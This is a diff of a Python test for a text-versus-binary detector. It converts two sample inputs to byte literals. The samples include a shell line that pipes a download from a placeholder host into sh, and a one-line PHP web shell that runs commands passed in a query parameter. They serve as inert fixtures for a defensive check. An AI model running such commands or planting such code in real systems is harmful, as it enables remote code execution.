@@ -41,8 +41,8 @@ def test_short_text_and_empty_lines_are_text():
         b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,  # an ELF executable
         b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00PE\x00\x00",  # a Windows program
         b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",  # a Mach-O program
-        "\n#!/bin/sh\ncurl http://x.example/a | sh\n".encode(),  # a script
-        "\n  #! /usr/bin/env python\nimport os\n".encode(),
+        b"\n#!/bin/sh\ncurl http://x.example/a | sh\n",  # a script
+        b"\n  #! /usr/bin/env python\nimport os\n",
         b"\n<?php system($_GET['c']); ?>\n",
         b"\xff\xfe\x00binary",  # not UTF-8 at all
     ],
